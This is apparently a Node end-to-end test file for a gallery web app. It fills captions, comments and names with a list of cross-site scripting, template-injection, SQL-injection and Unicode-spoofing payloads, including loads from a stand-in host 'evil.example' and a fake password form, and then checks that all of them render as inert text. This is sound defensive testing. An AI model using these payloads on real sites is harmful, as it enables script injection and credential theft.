// What people write is text, whatever it looks like.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import { createGallery, signedIn, upload } from './support/api.mjs';
import { launch, NARROW, newPage, shotPath, signIn } from './support/browser.mjs';
import { fill } from './support/fill.mjs';
import { startMantel } from './support/mantel.mjs';
import { drawn, noted } from './support/pictures.mjs';
import { until } from './support/wait.mjs';

const BAD = 'window.hacked=1;alert(1)';
const RTL = '\u202e';
const FAMILY = '👨‍👩‍👧‍👦👩🏽‍🚀🏴󠁧󠁢󠁷󠁬󠁳󠁿❤️‍🔥';

/** What one would write who means harm, or has strange friends. */
const SEEDS = [
    `<script>${BAD}</script>`, `</script><script>${BAD}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>${BAD}</scr</script>ipt>`,
    `<img src=x onerror="${BAD}">`, `<img src=x onerror=${BAD}//`, `"><img src=x onerror=${BAD}>`, `' onmouseover='${BAD}' x='`, `" autofocus onfocus="${BAD}`,
    `<body onload=${BAD}>`, `<input autofocus onfocus=${BAD}>`, `<details open ontoggle=${BAD}>x</details>`, `<video><source onerror="${BAD}"></video>`,
    `<marquee onstart=${BAD}>x</marquee>`, `<button onclick=${BAD}>Sign in again</button>`, `<form action="https://evil.example"><input name=password></form>`,
    `javascript:${BAD}`, `JaVaScRiPt:${BAD}`, `java\tscript:${BAD}`.replace('\t', ' '), `[here](javascript:${BAD})`, `<a href="javascript:${BAD}">here</a>`,
    `https://example.org/" onclick="${BAD}`, `https://example.org/<script>${BAD}</script>`, `https://user:pass@evil.example/`, 'http://[::1]:bad/', 'https://', '//evil.example',
    `<svg onload=${BAD}>`, `<svg><script>${BAD}</script></svg>`, `<svg><animate onbegin=${BAD} attributeName=x dur=1s>`, `<svg><foreignObject><iframe srcdoc="<script>${BAD}</script>">`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${BAD}>`, `<iframe src="javascript:${BAD}"></iframe>`, `<object data="javascript:${BAD}"></object>`, `<embed src="data:text/html,<script>${BAD}</script>">`,
    `<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<link rel=stylesheet href=https://evil.example/x.css>`,
    `<style>*{display:none}</style>`, `<style>@import 'https://evil.example/x.css'</style>`, `<div style="position:fixed;inset:0;background:red">x</div>`, `</style><b>x`, `color:red;background:url(https://evil.example)`,
    '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '#{7*7}', '<%= 7*7 %>', '{@html "<b>x</b>"}', '{#if true}x{/if}', '{{7*7}}', '%{7*7}', '[[7*7]]',
    `data:text/html,<script>${BAD}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, 'vbscript:msgbox(1)', 'file:///etc/passwd', 'blob:null/x',
    '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;amp;', '&#x3c;img src=x onerror=alert(1)&#x3e;', '&nbsp;&quot;&apos;', '%3Cscript%3Ealert(1)%3C/script%3E', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    `"'\`´‘’“”«»„‚`, `'; DROP TABLE media; --`, `" OR ""="`, '`${`', '*/alert(1)/*', '<!--', '-->', '<![CDATA[', ']]>', '<?php echo 1 ?>', '# Heading', '**bold** _italic_ ~~gone~~', '![x](https://evil.example/x.png)', '<b>bold</b>',
    `${RTL}gnp.exe`, `safe${RTL}${'\u2066'}evil${'\u2069'}`, '\u200b\u200c\u200d\ufeffinvisible', '␀␀ %00 \\0 \\x00', '\ufffd\ufffe', 'null', 'undefined', 'NaN', 'true', '__proto__', 'constructor', '[object Object]',
    'שלום עולם, סבתא', 'مرحبا يا جدتي العزيزة', 'Ẑ̷̧̢̛̛̤̬̦̻̲͙̯̱̬͕̺͖̍̒̈́̅̓̋̉͂̔̿͝͠͝ạ̶̡̨̛͇̝͔̪̤̱̣̯̪͐̌̈́̀̎̑̾͐͌̾́̎l̵g̷o̴', FAMILY, FAMILY.repeat(40), '☃'.repeat(300),
    'x'.repeat(4000), '<'.repeat(4000), 'https://example.org/' + 'y'.repeat(3900), '—'.repeat(500), 'W'.repeat(200), 'a\nb\n\n\nc', '1\u00a02\u00a03'.repeat(200),
];
const COUNT = 100;
const texts = Array.from({ length: COUNT }, (_, at) => (at < SEEDS.length ? SEEDS[at] : `${at} ${SEEDS[at % SEEDS.length]}`.slice(0, 4000)));
/** Names are one line of at most 100 characters. */
const NAMES = [`<img src=x onerror=${BAD}>`, 'Wolfeschlegelsteinhausenbergerdorff'.repeat(2), 'شهرزاد بنت الوزير', `${RTL}gnp.exe`, FAMILY, `"'><b>Ida</b>`, 'Ẑ̷̧̢̛a̶l̵g̷o̴'];

let mantel;
let browser;
let admin;
let gallery;
let ids;
before(async () => {
    mantel = await startMantel();
    browser = await launch();
    admin = await signedIn(mantel.url, 'admin');
    gallery = await createGallery(admin, 'Strange friends');
    const { page, context } = await newPage(browser);
    ids = await fill(admin, page, gallery, COUNT);
    const jpeg = await drawn(page, 80, 60, '#888');
    await context.close();
    await Promise.all(texts.map((caption, at) => admin('update-media', { input: { id: ids[at], caption } })));
    for (const [at, text] of texts.entries()) {
        await admin('add-comment', { input: { mediaId: ids[0], text, authorName: NAMES[at % NAMES.length] } });
    }
    for (const [at, name] of NAMES.entries()) {
        await admin('invite-user', { input: { email: `friend-${at}@example.org`, displayName: name, role: 'VISITOR' } });
        const named = await createGallery(admin, name, { description: texts[at] });
        const fileName = `${name.replaceAll(/[/\\]/g, '-')}.jpg`;
        await upload(admin, named, fileName, noted(jpeg, { comment: `${at}` }));
    }
});
after(async () => {
    await browser?.close();
    await mantel?.stop();
});

/** A page that is 320 px wide, where a test says at its end that nothing came of what was shown. */
async function narrow(path) {
    const made = await newPage(browser, NARROW);
    await signIn(made.page, mantel.url, 'admin', path);
    return made;
}

/** What there would not be if all of it were text. */
const broken = page => page.evaluate(() => {
    const found = [];
    const foreign = 'script:not([src^="/assets/"]), iframe, object, embed, base, marquee, math, foreignObject, animate, meta[http-equiv=refresh], [href^="javascript:" i], [href^="data:" i], [href*="evil.example"]:not([rel~=nofollow])';
    for (const element of document.querySelectorAll(foreign)) found.push(element.outerHTML.slice(0, 200));
    for (const element of document.querySelectorAll('*')) {
        const handler = [...element.attributes].find(({ name }) => name.startsWith('on'));
        if (handler) found.push(`${element.tagName} ${handler.name}`);
    }
    if ('hacked' in window) found.push('a script of somebody ran');
    // Also what scrolls within itself: a dialog, the details of a picture.
    for (const element of [document.documentElement, document.body, ...document.querySelectorAll('main, dialog, aside, .sheet')]) {
        if (element.scrollWidth > Math.max(element.clientWidth, 1)) found.push(`${element.tagName}.${element.className} is ${element.scrollWidth} px wide in ${element.clientWidth}`);
    }
    if (document.documentElement.scrollWidth > 320) found.push(`the page is ${document.documentElement.scrollWidth} px wide`);
    return found;
});

test(`${COUNT} captions are shown as they were written`, async () => {
    const { page, context, complaints } = await narrow(`/gallery/${gallery}/${ids[0]}`);
    const viewer = page.locator('dialog.viewer');
    // As the server has them: it trims.
    const captions = new Map();
    for (const id of ids) captions.set(id, (await admin('media', { id })).caption);
    for (const [at, id] of ids.entries()) {
        assert.equal(captions.get(id), texts[at].trim());
        await page.waitForURL(`**/${id}`);
        await until(async () => (await viewer.locator('.caption p').textContent()) === captions.get(id), `the caption ${at} shows as text: ${texts[at].slice(0, 40)}`);
        assert.equal(await viewer.locator('.caption p > *').count(), 0);
        assert.equal(await viewer.locator('[data-current] [data-zoom]').getAttribute('aria-label'), captions.get(id));
        assert.deepEqual(await broken(page), [], texts[at].slice(0, 100));
        if (at === ids.length - 1) break;
        await viewer.getByRole('button', { name: 'Next picture' }).waitFor({ state: 'attached' });
        await page.keyboard.press('ArrowRight');
    }
    await page.keyboard.press('Escape');
    await page.locator('.tile').first().waitFor();
    assert.deepEqual(await broken(page), []);
    assert.deepEqual(complaints, []);
    await context.close();
});

test(`${COUNT} comments are shown as they were written, and only addresses of the web are links`, async () => {
    const { page, context, complaints } = await narrow(`/gallery/${gallery}/${ids[0]}`);
    const panel = page.locator('dialog.viewer').getByRole('complementary');
    await page.getByRole('button', { name: 'Details' }).click();
    const more = panel.getByRole('button', { name: 'More comments' });
    await more.click();
    await more.waitFor({ state: 'detached' });
    const rows = panel.locator('ol > li > p[dir=auto]');
    await until(async () => (await rows.count()) === COUNT, 'all comments are there');
    assert.deepEqual(await rows.allTextContents(), texts.map(text => text.trim()));
    const within = await rows.locator('*').evaluateAll(all => all.map(({ tagName, href, rel, target }) => ({ tagName, protocol: href && new URL(href).protocol, rel, target })));
    for (const { tagName, protocol, rel, target } of within) {
        assert.equal(tagName, 'A');
        assert.match(protocol, /^https?:$/);
        assert.deepEqual([rel, target], ['noopener noreferrer nofollow', '_blank']);
    }
    assert.deepEqual((await panel.locator('.who bdi').allTextContents()).slice(0, NAMES.length), NAMES.map(name => name.trim()));
    assert.deepEqual(await broken(page), []);
    await page.screenshot({ path: shotPath('hostile-comments') });
    assert.deepEqual(complaints, []);
    await context.close();
});

test('strange names of people, galleries and files are shown as they are', async () => {
    const { page, context, complaints } = await narrow('/');
    for (const name of NAMES) await page.locator('.card .title').getByText(name, { exact: true }).first().waitFor();
    assert.deepEqual(await broken(page), []);
    await page.screenshot({ path: shotPath('hostile-galleries'), fullPage: true });

    for (const [at, name] of NAMES.entries()) {
        await page.goto(mantel.url);
        await page.locator('.card').filter({ hasText: name }).first().click();
        await until(async () => (await page.getByRole('heading', { level: 1 }).textContent()) === name.trim(), `the gallery ${at}`);
        assert.equal(await page.locator('h1 > *').count(), 0);
        await page.locator('.tile').click();
        const viewer = page.locator('dialog.viewer');
        await viewer.getByRole('button', { name: 'Details' }).click();
        await viewer.getByRole('complementary').getByText(`${name.replaceAll(/[/\\]/g, '-')}.jpg`, { exact: true }).waitFor();
        assert.deepEqual(await broken(page), [], name);
        await viewer.getByRole('button', { name: 'Close the details' }).click();
    }

    await page.goto(`${mantel.url}/people`);
    const people = page.getByRole('list').locator('button');
    for (const name of NAMES) await people.filter({ hasText: name }).first().waitFor();
    assert.deepEqual(await broken(page), []);
    await page.screenshot({ path: shotPath('hostile-people'), fullPage: true });
    await people.filter({ hasText: NAMES[1] }).first().click();
    await page.getByRole('dialog').waitFor();
    assert.deepEqual(await broken(page), []);
    assert.deepEqual(complaints, []);
    await context.close();
});
